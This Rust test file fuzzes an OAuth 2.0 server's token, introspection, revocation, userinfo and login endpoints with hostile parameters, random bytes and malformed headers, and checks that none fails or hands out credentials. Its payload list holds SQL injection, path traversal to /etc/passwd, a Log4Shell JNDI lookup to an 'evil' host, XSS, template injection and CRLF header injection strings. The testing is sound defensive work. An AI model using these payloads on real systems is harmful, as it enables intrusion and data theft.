//! Whatever anybody may send: it is refused, nothing fails, nothing is given, and the next one is served (RFC 6749 §10.14).

use reqwest::Method;
use reqwest::header::{CONTENT_TYPE, HeaderValue};

use crate::actors::{Answer, TestServer};
use crate::attacks::assert_nothing_given;

const ENDPOINTS: [&str; 4] = ["/token", "/introspect", "/revoke", "/userinfo"];
const PARAMETERS: &str = "grant_type client_id client_secret client_assertion client_assertion_type scope resource username password code \
    code_verifier redirect_uri refresh_token token token_type_hint access_token";

/// Values that break careless parsers, databases, logs and pages.
pub(super) fn hostile() -> Vec<String> {
    let mut values: Vec<String> = [
        "\0",
        "a\0b",
        "\r\n",
        "x\r\nSet-Cookie: a=b",
        "\u{1f511}\u{1f511}",
        "e\u{301}\u{202e}\u{feff}",
        "\u{ffff}\u{10ffff}",
        "'",
        "\"",
        "\\",
        "' OR 1=1 --",
        "Robert'); DROP TABLE account;--",
        "%00",
        "%",
        "%%",
        "%zz",
        "+",
        "&=",
        "../../../etc/passwd",
        "${jndi:ldap://evil}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "-1",
        "0",
        "1e999",
        "99999999999999999999999999999",
        "-9223372036854775808",
        "NaN",
        "null",
        "undefined",
        "true",
        "[]",
        "{}",
        "clv_code_",
        "clv_rt_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "eyJ.eyJ.x",
        "..",
        "...",
        "a.b.c",
        "http://",
        "http://[",
        "http://a:b@c:d",
        "//evil.example",
        "urn:ietf:params:oauth:request_uri:x",
        " ",
        "\t",
        "\u{a0}",
        "none",
        "openid\u{b}email",
    ]
    .map(str::to_owned)
    .into();
    values.push("x".repeat(10 * 1024));
    values.push("\u{1f511}".repeat(2000));
    values.push((0..5000).map(|number| number.to_string()).collect::<Vec<_>>().join(" "));
    values.push("[".repeat(5000));
    values
}

/// Asserts that an answer is a proper one, in JSON or as a page.
#[track_caller]
pub(super) fn assert_proper(what: &str, answer: &Answer) {
    assert!(answer.status.as_u16() < 500, "{what}: {} {}", answer.status, answer.body);
    assert_eq!(answer.header("trace-id").map(str::len), Some(32), "{what}");
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
    assert_eq!(answer.header("cache-control"), Some("no-store"), "{what}");
    if answer.status.is_client_error() && answer.header("content-type") == Some("application/json") {
        answer.assert_error(answer.status.as_u16(), answer.json()["error"].as_str().unwrap());
    }
}

#[tokio::test]
async fn no_value_of_any_parameter_makes_an_endpoint_fail_or_give() {
    let server = TestServer::start().await;
    for value in hostile() {
        for name in PARAMETERS.split(' ') {
            for (path, grant_type) in ENDPOINTS.iter().zip(["password", "authorization_code", "refresh_token", "client_credentials"]) {
                let form = [
                    (name, value.as_str()),
                    ("username", "a"),
                    ("password", "b"),
                    ("client_id", "demo-password"),
                    ("grant_type", grant_type),
                ];
                let form: Vec<_> = form
                    .into_iter()
                    .enumerate()
                    .filter(|(index, (other, _))| *index == 0 || *other != name)
                    .map(|(_, pair)| pair)
                    .collect();
                for client in [None, Some("demo-web:demo-web-secret")] {
                    let answer = server.post(path, client, &form).await;
                    assert_proper(&format!("{path} {name}={:.60}", value.escape_debug().to_string()), &answer);
                    assert_nothing_given(&answer);
                }
            }
        }
    }
    assert_eq!(server.get("/health/ready").await.status, 200);
}

#[tokio::test]
async fn no_bytes_make_an_endpoint_fail() {
    let server = TestServer::start().await;
    // A small generator of our own: the same bytes in each run.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..300 {
        let length = usize::try_from(next() % 200).unwrap();
        let alphabet: &[u8] = if next() % 2 == 0 { b"=&%+;{}[]\"\\\0\r\n\xff\xc3azAZ09_:/?#" } else { b"grant_type=client_id&scope%20" };
        let body: Vec<u8> = (0..length).map(|_| alphabet[usize::try_from(next()).unwrap() % alphabet.len()]).collect();
        for path in ENDPOINTS.iter().chain(&["/authorize", "/login", "/logout"]) {
            let request = server.request(Method::POST, path).header(CONTENT_TYPE, "application/x-www-form-urlencoded").body(body.clone());
            let answer = Answer::of(request.send().await.unwrap()).await;
            assert_proper(&format!("{path} {}", body.escape_ascii()), &answer);
            assert_nothing_given(&answer);
        }
    }
}

#[tokio::test]
async fn no_header_makes_an_endpoint_fail() {
    let server = TestServer::start().await;
    let values: [&[u8]; 12] = [
        b"",
        b"\xff\xfe",
        b"Basic \xff",
        b"Basic Og==",
        b"Bearer \x80",
        b"null",
        b"a, b",
        b"*/*;q=x",
        b"text/html;;;;",
        b"application/x-www-form-urlencoded; charset=\xff",
        b"%00",
        b"clv_ses_x; claviger-session=clv_ses_x; =; ;;",
    ];
    let names = [
        "authorization",
        "content-type",
        "accept",
        "cookie",
        "origin",
        "sec-fetch-site",
        "if-none-match",
        "user-agent",
        "x-forwarded-for",
        "forwarded",
        "dpop",
        "expect",
        "range",
        "accept-encoding",
        "access-control-request-method",
        "te",
        "upgrade",
    ];
    for name in names {
        for value in values {
            let value = HeaderValue::from_bytes(value).unwrap();
            for (method, path) in [
                (Method::POST, "/token"),
                (Method::GET, "/userinfo"),
                (Method::GET, "/authorize"),
                (Method::GET, "/login"),
                (Method::POST, "/login"),
                (Method::OPTIONS, "/token"),
                (Method::GET, "/.well-known/jwks.json"),
            ] {
                let answer = Answer::of(server.request(method, path).header(name, value.clone()).send().await.unwrap()).await;
                assert!(answer.status.as_u16() < 500, "{path} {name}: {value:?}: {}", answer.status);
                assert_nothing_given(&answer);
            }
        }
    }
}
